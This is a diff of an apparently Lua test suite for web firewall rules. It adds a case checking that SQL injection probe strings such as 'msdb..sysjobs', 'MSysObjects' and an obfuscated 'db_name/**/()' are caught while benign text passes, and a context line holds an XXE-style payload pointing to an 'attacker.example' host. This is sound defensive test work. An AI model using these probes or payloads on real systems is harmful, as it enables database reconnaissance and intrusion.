@@ -98,4 +98,11 @@ describe("edge.waf.rules hundred-and-ninety-ninth round on", function()
             '{"SimpleXMLElement":{"data":"http://attacker.example/xxe.xml","options":2}}' })
         clean({ "simplexml_load_file is slow on big feeds", "we parse the feed with SimpleXMLElement" })
     end)
+
+    it("SQL: a catalog read by any database's dbo schema, Access's system tables, the current database's name",
+        function()
+            caught_by(142160, { "northwind.dbo.customers", "[northwind].[dbo].[customers]", "msdb..sysjobs",
+                "MSysObjects", "1=db_name()", "db_name/**/()" })
+            clean({ "Northwind Outfitters", "the dbo schema", "a database (SQL) course" })
+        end)
 end)
